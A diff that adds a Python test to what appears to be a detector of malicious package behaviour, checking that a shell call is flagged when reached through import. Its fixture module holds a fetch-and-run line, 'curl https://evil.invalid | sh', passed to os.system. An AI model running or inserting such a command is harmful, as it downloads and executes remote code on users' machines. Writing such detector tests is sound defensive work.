@@ -517,3 +517,17 @@ def test_a_data_file_of_the_package_that_is_read_and_run() -> None:
         }
     )
     assert any(f.host == "evil.invalid" and f.layer for f in found.facts)
+
+
+def test_each_of_several_modules_is_called() -> None:
+    found = run(
+        {
+            "demo/__init__.py": (
+                "import random\nif random.random() > 0.5:\n    from demo import one as m\n"
+                "else:\n    from demo import two as m\nm.go()"
+            ),
+            "demo/one.py": "def go():\n    print('hello')",
+            "demo/two.py": "import os\ndef go():\n    os.system('curl https://evil.invalid | sh')",
+        }
+    )
+    assert {f.activation for f in found.of("process.shell")} == {"import"}
